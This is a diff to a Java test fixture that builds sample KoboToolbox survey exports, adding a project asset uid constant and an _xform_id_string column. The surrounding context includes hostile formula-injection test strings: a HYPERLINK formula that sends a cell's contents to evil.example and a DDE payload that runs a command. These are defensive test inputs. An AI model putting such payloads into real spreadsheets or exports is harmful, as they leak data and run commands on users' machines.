@@ -50,6 +50,12 @@ final class SubmissionSamples {
 
   static final Instrument STANDARD = Instruments.ctnat2016();
 
+  /**
+   * The asset uid of the KoboToolbox project of the test exports: KoboToolbox deploys a form under
+   * its project's uid, so {@code _xform_id_string} holds it, not the XLSForm's {@code form_id}.
+   */
+  static final String KOBO_ASSET_UID = "a5fG8uKQdxTHaqJkEzUp2Q";
+
   /** Pieces of free text, hostile ones included; several are joined into one answer. */
   static final List<String> FRAGMENTS = List.of(
       "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
@@ -230,6 +236,7 @@ final class SubmissionSamples {
       add(header, "_uuid", r -> UUID.nameUUIDFromBytes(r.respondent().id().value()
           .getBytes(StandardCharsets.UTF_8)).toString());
       add(header, "_submission_time", r -> "2016-05-04T06:22:01");
+      add(header, "_xform_id_string", r -> KOBO_ASSET_UID);
       add(header, "_validation_status", r -> "");
       add(header, "_notes", r -> "");
       add(header, "_status", r -> "submitted_via_web");
